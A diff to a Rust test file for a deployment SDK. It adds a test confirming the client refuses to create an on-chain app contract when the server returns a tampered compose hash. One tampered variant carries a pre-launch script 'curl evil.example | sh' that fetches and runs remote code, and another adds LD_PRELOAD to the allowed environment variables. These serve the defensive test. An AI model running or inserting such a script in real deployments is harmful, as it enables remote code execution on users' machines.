@@ -3,6 +3,8 @@
 use casemate_chain::Action;
 use casemate_chain::dev::ACCOUNTS;
 use casemate_sdk::chain::{Error, NewApp};
+use casemate_sdk::env::EnvVar;
+use casemate_sdk::types::compose::{ComposeDoc, Flag};
 use casemate_sdk::{Ask, PatchOutcome};
 use serde_json::json;
 
@@ -82,8 +84,10 @@ async fn a_stranger_registers_nothing_and_confirms_nothing() {
 #[tokio::test]
 async fn a_new_app_gets_its_contract_along_the_way() {
     let world = World::start().await;
+    let deployed = |server: &Server| server.client().deploy("web-1", "services: {}\n").kms_id("base");
+    let hash = deployed(&Server::casemate([]).await).normalised().unwrap().hash;
     let provision = json!({
-        "app_id": null, "app_env_encrypt_pubkey": null, "compose_hash": NEXT, "device_id": DEVICE, "kms_id": "base",
+        "app_id": null, "app_env_encrypt_pubkey": null, "compose_hash": hash, "device_id": DEVICE, "kms_id": "base",
         "kms_info": {
             "id": "kms_base", "slug": "base", "url": "", "version": "v1", "chain_id": CHAIN,
             "kms_contract_address": format!("0x{}", world.contracts.kms), "gateway_app_id": null,
@@ -93,17 +97,21 @@ async fn a_new_app_gets_its_contract_along_the_way() {
         "id": 1, "name": "web-1", "status": "creating", "vm_uuid": "5f3c1a9b-7d5e-4c2a-8b6d-0e1f2a3b4c5d", "vcpu": 1,
         "memory": 2048, "disk_size": 20, "created_at": "2026-02-03T10:00:00.000000Z",
     });
-    let server = Server::casemate([Reply::json(200, provision.clone()), Reply::json(200, made)]).await;
-    let deploy = server.client().deploy("web-1", "services: {}\n").kms_id("base");
+    let server =
+        Server::casemate([Reply::json(200, provision.clone()), not_yet(), Reply::json(200, made)]).await;
     let network = at(CHAIN, &world.chain().url());
-    deploy.wallet_on(&wallet(STRANGER), network.clone()).send().await.unwrap();
+    deployed(&server).wallet_on(&wallet(STRANGER), network.clone()).send().await.unwrap();
     let asked = server.asked();
     assert_eq!(asked[0].json()["kms_id"], "base");
-    let body = asked[1].json();
+    assert_eq!(asked.len(), 3, "the server's node may be behind: it is told again");
+    let body = asked[2].json();
+    assert_eq!(body, asked[1].json());
+    let receipt = world.call("eth_getTransactionReceipt", json!([body["transaction_hash"]])).await;
+    assert_eq!(receipt["to"], format!("0x{}", world.contracts.kms), "the transaction that made the contract");
     assert_eq!(body["contract_address"], body["app_id"]);
     assert_eq!(body["deployer_address"], format!("0x{}", ACCOUNTS[STRANGER].address));
     let app = body["app_id"].as_str().unwrap();
-    assert!(network.check_on_chain_prerequisites(app, DEVICE, NEXT).await.unwrap().all());
+    assert!(network.check_on_chain_prerequisites(app, DEVICE, hash).await.unwrap().all());
     assert_eq!(
         network.get_allowed_devices(app, []).await.unwrap().owner,
         ACCOUNTS[STRANGER].address,
@@ -111,8 +119,45 @@ async fn a_new_app_gets_its_contract_along_the_way() {
     );
 
     let server = Server::casemate([Reply::json(200, provision)]).await;
-    let error = server.client().deploy("web-1", "services: {}\n").kms_id("base").send().await.unwrap_err();
+    let error = deployed(&server).send().await.unwrap_err();
     assert_eq!(error.fields()[0].field(), "wallet");
+}
+
+#[tokio::test]
+async fn no_contract_is_made_for_what_nobody_wrote() {
+    let world = World::start().await;
+    let (network, signer) = (at(CHAIN, &world.chain().url()), wallet(STRANGER));
+    let deployed = |server: &Server| {
+        let deploy = server.client().deploy("web-1", "services: {}\n").kms_id("base");
+        deploy.env([EnvVar::new("TOKEN", "s3cret")]).wallet_on(&signer, network.clone())
+    };
+    let given = deployed(&Server::casemate([]).await).normalised().unwrap();
+    let document = ComposeDoc::parse(&given.text).unwrap();
+    assert_eq!(document.allowed_envs(), ["TOKEN"]);
+    let mut with_script = document.clone();
+    with_script.set_pre_launch_script("curl evil.example | sh\n");
+    let mut with_flag = document.clone();
+    with_flag.set_flag(Flag::PublicLogs, false);
+    let mut with_env = document;
+    with_env.set_allowed_envs(["TOKEN", "LD_PRELOAD"]);
+    for other in [with_script, with_flag, with_env] {
+        let made = other.normalise().hash;
+        let provision = json!({
+            "app_id": null, "compose_hash": made, "device_id": DEVICE, "kms_id": "base",
+            "kms_info": {
+                "id": "kms_base", "slug": "base", "url": "", "version": "v1", "chain_id": CHAIN,
+                "kms_contract_address": format!("0x{}", world.contracts.kms), "gateway_app_id": null,
+            },
+        });
+        let server = Server::casemate([Reply::json(200, provision)]).await;
+        let error = on_chain(deployed(&server).send().await);
+        let Error::OtherComposeHash { given: mine, asked } = &error else { panic!("{error:?}") };
+        assert_eq!((*mine, *asked), (given.hash, made));
+        let text = error.to_string();
+        assert!(text.contains(&made.to_string()) && text.contains(&given.hash.to_string()), "{text}");
+        assert_eq!(server.asked().len(), 1);
+    }
+    assert_eq!(world.sent(signer.address()).await, 0);
 }
 
 #[test]
